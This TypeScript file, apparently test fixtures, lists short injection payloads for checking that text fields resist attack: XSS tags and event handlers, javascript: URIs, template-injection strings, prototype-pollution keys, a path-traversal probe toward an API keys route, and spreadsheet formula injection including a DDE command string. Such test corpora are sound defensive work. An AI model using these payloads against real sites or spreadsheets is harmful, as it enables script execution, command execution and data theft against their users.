/** Texts that run a script where a page takes text for markup, for an address, for a template or for a formula. */

/** At most 64 characters, so that every text field of a transaction takes them. */
export const XSS_CORPUS: readonly string[] = [
  ...['<script>xss()</script>', '"><script>xss()</script>', '</script><script>xss()</script>'],
  ...['<ScRiPt >xss()</sCrIpT>', '<script src=//x.invalid/x.js></script>'],
  ...['<img src=x onerror=xss()>', '"><img src=x onerror=xss()>', "'><img src=x onerror=xss()>"],
  ...['<img src=x onerror="xss()"//', '<img/src=`x`onerror=xss()>', '<image src=x onerror=xss()>'],
  ...['<svg onload=xss()>', '<svg/onload=xss()//', '<svg><script>xss()</script></svg>'],
  ...[
    '<svg><animate onbegin=xss() attributeName=x dur=1s>',
    '<math><a xlink:href=javascript:xss()>',
  ],
  ...['<iframe src=javascript:xss()>', '<iframe srcdoc="<script>parent.xss()</script>">'],
  ...[
    '<body onload=xss()>',
    '<details open ontoggle=xss()>',
    '<video><source onerror=xss()></video>',
  ],
  ...['<input autofocus onfocus=xss()>', '" autofocus onfocus="xss()', "' onmouseover='xss()"],
  ...['javascript:xss()', 'JaVaScRiPt:xss()//', 'data:text/html,<script>xss()</script>'],
  ...['<a href="javascript:xss()">a</a>', '<base href=//x.invalid>', '<style>*{color:red}</style>'],
  ...[`$\{xss()}`, '{{constructor.constructor("xss()")()}}', '#{xss()}', '<%= xss() %>'],
  ...['__proto__', 'constructor', '../../v1/keys?x=', '%3Cscript%3Exss()%3C/script%3E'],
  ...[
    '&lt;script&gt;xss()&lt;/script&gt;',
    '＜script＞xss()＜/script＞',
    '\u202e<script>xss()</script>',
  ],
  ...[
    'مرحبا<svg onload=xss()>',
    '\u{1F600}<img src=x onerror=xss()>',
    'a\u200b<script>xss()</script>',
  ],
  ...['=HYPERLINK("//x.invalid","xss")', '+cmd|" /C calc"!A0', '@SUM(1+1)*cmd', '-2+3+xss()'],
];

/** Names of people are in one form of Unicode, and without characters that nobody sees. */
export const isName = (text: string) => text === text.normalize('NFKC') && !/\p{Cf}/u.test(text);
